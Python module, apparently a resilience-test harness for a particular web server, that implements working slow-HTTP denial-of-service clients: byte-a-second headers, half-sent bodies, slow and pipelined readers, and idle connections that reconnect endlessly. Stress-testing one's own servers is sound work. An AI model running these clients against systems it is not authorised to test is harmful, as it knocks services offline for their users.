"""Clients that mean no good: they hold connections, and use as little of them as they can.

One whose connection is closed comes again after a second.
"""

from __future__ import annotations

import asyncio
import contextlib
import socket
from collections import Counter
from collections.abc import Awaitable, Callable

AGAIN_S = 1.0
BYTE_S = 1.0
# What a reader takes before it slows down is what the systems hold for it, so that is kept small.
RECEIVED = 4096
HEAD = "GET /?q=dog HTTP/1.1\r\nHost: {host}:{port}\r\nX-Slow: {filler}\r\n\r\n"
BODY = (
    "POST /api/v1/tags/accept HTTP/1.1\r\nHost: {host}:{port}\r\n"
    "Content-Type: application/json\r\nContent-Length: 4000\r\n\r\n"
)
READ = "GET {path} HTTP/1.1\r\nHost: {host}:{port}\r\n{more}\r\n"
# What a server may hold of each is multiplied by what fits in a packet or a few.
AT_ONCE_BYTES = 8192
OPEN_TO_ALL = "/static/script/viewer.js"

Attack = Callable[["Attackers", int, socket.socket], Awaitable[None]]


class Attackers:
    """So many at once, in one thread.

    Args:
        host: where the server is.
        port: and at which port.
        large: the address of an answer too large to be held for its reader.
    """

    def __init__(self, host: str, port: int, large: str = "/") -> None:
        self.host, self.port, self.large = host, port, large
        self.closed: Counter[str] = Counter()
        self.refused: Counter[str] = Counter()

    async def attack(self, counts: dict[str, int], seconds: float) -> None:
        """Let so many of each kind in ``ATTACKS`` attack for so long."""
        tasks = [
            asyncio.ensure_future(self._again(kind, number))
            for kind, count in counts.items()
            for number in range(count)
        ]
        await asyncio.sleep(seconds)
        for task in tasks:
            task.cancel()
        await asyncio.gather(*tasks, return_exceptions=True)

    async def _again(self, kind: str, number: int) -> None:
        loop = asyncio.get_running_loop()
        while True:
            with socket.socket() as connection:
                connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, RECEIVED)
                connection.setblocking(False)
                try:
                    await loop.sock_connect(connection, (self.host, self.port))
                    await ATTACKS[kind](self, number, connection)
                    self.closed[kind] += 1
                except ConnectionRefusedError:
                    self.refused[kind] += 1
                except OSError:
                    self.closed[kind] += 1
            await asyncio.sleep(AGAIN_S)

    async def slow_head(self, number: int, connection: socket.socket) -> None:
        """Send the head of a request, a byte a second, without end."""
        head = HEAD.format(host=self.host, port=self.port, filler="x" * 4000).encode()
        await asyncio.sleep(number / 100 % BYTE_S)
        await _drip(connection, head)

    async def half_body(self, _: int, connection: socket.socket) -> None:
        """Send a head and half of the body that it promises, and then wait."""
        loop = asyncio.get_running_loop()
        head = BODY.format(host=self.host, port=self.port).encode()
        await loop.sock_sendall(connection, head + b" " * 2000)
        await _until_closed(connection)

    async def slow_reader(self, number: int, connection: socket.socket) -> None:
        """Ask for something large, whole or in part, and read the answer a byte at a time."""
        loop = asyncio.get_running_loop()
        more = ("", "Range: bytes=1-\r\n")[number % 2]
        head = READ.format(host=self.host, port=self.port, path=self.large, more=more)
        await loop.sock_sendall(connection, head.encode())
        while await loop.sock_recv(connection, 1):
            await asyncio.sleep(BYTE_S)

    async def pipelining(self, number: int, connection: socket.socket) -> None:
        """Ask for as much as fits into a few packets, and read the answers a byte at a time."""
        loop = asyncio.get_running_loop()
        path = (self.large, OPEN_TO_ALL)[number % 2]
        head = READ.format(host=self.host, port=self.port, path=path, more="").encode()
        await loop.sock_sendall(connection, head * (AT_ONCE_BYTES // len(head)))
        while await loop.sock_recv(connection, 1):
            await asyncio.sleep(BYTE_S)

    async def silent(self, _: int, connection: socket.socket) -> None:
        """Say nothing."""
        await _until_closed(connection)


ATTACKS: dict[str, Attack] = {
    "slow_head": Attackers.slow_head,
    "half_body": Attackers.half_body,
    "slow_reader": Attackers.slow_reader,
    "pipelining": Attackers.pipelining,
    "silent": Attackers.silent,
}


async def _drip(connection: socket.socket, head: bytes) -> None:
    loop = asyncio.get_running_loop()
    for byte in head:
        await loop.sock_sendall(connection, bytes([byte]))
        with contextlib.suppress(asyncio.TimeoutError):
            # An answer, or the end, is all the same: somebody has seen through it.
            await asyncio.wait_for(loop.sock_recv(connection, 1), BYTE_S)
            return


async def _until_closed(connection: socket.socket) -> None:
    while await asyncio.get_running_loop().sock_recv(connection, 1000):
        pass


def attack(
    host: str, port: int, large: str, counts: dict[str, int], seconds: float
) -> tuple[Counter[str], Counter[str]]:
    """Attack a server; return how often which were closed or refused. For a process of its own."""
    attackers = Attackers(host, port, large)
    asyncio.run(attackers.attack(counts, seconds))
    return attackers.closed, attackers.refused
